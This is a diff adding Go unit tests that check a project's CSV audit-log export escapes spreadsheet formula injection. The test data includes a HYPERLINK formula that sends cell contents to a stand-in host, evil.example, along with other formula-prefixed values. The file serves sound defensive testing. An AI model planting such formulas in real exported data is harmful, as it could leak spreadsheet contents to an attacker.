@@ -0,0 +1,70 @@
+package logic
+
+import (
+	"bluebell/dao/mysql"
+	"bluebell/models"
+	"bytes"
+	"encoding/csv"
+	"testing"
+)
+
+func TestCSVCell(t *testing.T) {
+	tests := []struct {
+		in, want string
+	}{
+		{"", ""},
+		{"alice", "alice"},
+		{"192.0.2.1", "192.0.2.1"},
+		{"=HYPERLINK(\"http://evil\")", "'=HYPERLINK(\"http://evil\")"},
+		{"+1", "'+1"},
+		{"-1", "'-1"},
+		{"@SUM(A1)", "'@SUM(A1)"},
+		{"\tx", "'\tx"},
+		{"\rx", "'\rx"},
+		{"a=b", "a=b"},
+	}
+	for _, tt := range tests {
+		if got := csvCell(tt.in); got != tt.want {
+			t.Errorf("csvCell(%q) = %q, want %q", tt.in, got, tt.want)
+		}
+	}
+}
+
+// 导出的 CSV 中来自请求的字段 (包括 IP) 都不能以公式字符开头
+func TestExportAuditLogsCSVInjection(t *testing.T) {
+	name := uniqueName("=audit")
+	ip := `=HYPERLINK("http://evil.example/?"&A1,"x")`
+	if err := mysql.AddAuditLog(&models.AuditLog{
+		Username: name, IP: ip, Method: "POST", Path: "/login", Action: "user.login",
+		Outcome: "failure", Message: "+cmd", Detail: "@x",
+	}); err != nil {
+		t.Fatal(err)
+	}
+
+	var buf bytes.Buffer
+	if err := ExportAuditLogs(&models.ParamAuditQuery{Username: name, Format: "csv"}, &buf); err != nil {
+		t.Fatal(err)
+	}
+	rows, err := csv.NewReader(&buf).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) != 2 {
+		t.Fatalf("rows = %d, want header and 1 row", len(rows))
+	}
+	header, row := rows[0], rows[1]
+	want := map[string]string{
+		"username": "'" + name,
+		"ip":       "'" + ip,
+		"message":  "'+cmd",
+		"detail":   "'@x",
+	}
+	for i, col := range header {
+		if w, ok := want[col]; ok && row[i] != w {
+			t.Errorf("%s = %q, want %q", col, row[i], w)
+		}
+		if c := row[i]; c != "" && (c[0] == '=' || c[0] == '+' || c[0] == '@') {
+			t.Errorf("%s starts with a formula character: %q", col, c)
+		}
+	}
+}